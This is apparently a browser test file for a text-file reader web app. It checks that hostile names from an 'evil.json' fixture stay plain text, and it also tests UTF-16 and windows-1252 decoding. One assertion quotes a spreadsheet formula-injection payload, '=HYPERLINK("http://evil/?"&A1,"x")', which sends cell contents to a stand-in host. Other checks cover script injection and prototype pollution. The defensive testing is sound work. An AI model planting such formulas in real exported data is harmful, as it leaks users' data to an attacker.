/** Files of text as other programs and other people write them: encodings, and names that are markup, formulas or code. */
import { readFileSync } from 'node:fs';
import { expect, test } from '../test/browser/test';

const CASES = new URL('../src/formats/fixtures/cases/', import.meta.url);
const inCase = (name: string) => ({ name, mimeType: 'text/plain', buffer: readFileSync(new URL(name, CASES)) });

test('names that are markup, formulas or properties of every object are text everywhere', async ({ page }) => {
  await page.goto('index.html');
  await page.getByTestId('file-input').setInputFiles(inCase('evil.json'));
  await expect(page.getByTestId('state')).toHaveAttribute('data-state', 'done');
  await expect(page.getByText('=HYPERLINK("http://evil/?"&A1,"x")', { exact: true }).first()).toBeAttached();
  expect(await page.evaluate(() => [Object.hasOwn(window, 'PWNED'), Object.hasOwn(Object.prototype, 'polluted')])).toEqual([false, false]);
});

test('UTF-16 is read, and an encoding that is a guess is named', async ({ page }) => {
  await page.goto('index.html');
  await page.getByTestId('file-input').setInputFiles(inCase('utf16_from_powershell.rttm'));
  await expect(page.getByTestId('state')).toHaveAttribute('data-state', 'done');
  await page.getByTestId('tab-transcript').click();
  const buffer = readFileSync(new URL('../src/transcript/fixtures/cases/windows1252.srt', import.meta.url));
  await page.getByTestId('transcript-input').setInputFiles({ name: 'windows1252.srt', mimeType: 'text/plain', buffer });
  await expect(page.getByTestId('cue')).toContainText('Schöne Grüße');
  await expect(page.getByText('windows1252.srt is not UTF-8. It was read as windows-1252')).toBeVisible();
});
